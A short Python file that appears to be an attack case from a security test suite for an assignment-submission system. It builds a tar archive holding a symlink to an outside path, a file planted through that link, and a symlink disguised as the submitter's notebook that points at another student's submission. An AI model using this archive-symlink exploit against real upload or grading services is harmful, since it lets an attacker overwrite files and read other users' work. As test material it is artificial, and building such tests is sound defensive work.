# /// attack
# tries = "Hands in an archive with links in it, and a file behind one of them."
# points = 0
# ///

import io
import tarfile


def submit(place):
    with tarfile.open(place.download("links.tar.gz"), "w:gz") as file:
        link = tarfile.TarInfo("door")
        link.type, link.linkname = tarfile.SYMTYPE, place.bait["outside"]
        file.addfile(link)
        behind = tarfile.TarInfo(f"door/{place.bait['token']}")
        behind.size = 1
        file.addfile(behind, io.BytesIO(b"x"))
        peer = tarfile.TarInfo(f"{place.bait['me']}_{place.bait['slug']}.ipynb")
        peer.type = tarfile.SYMTYPE
        peer.linkname = f"{place.bait['course']}/submitted/zoe/{place.bait['slug']}/{place.bait['slug']}.ipynb"
        file.addfile(peer)
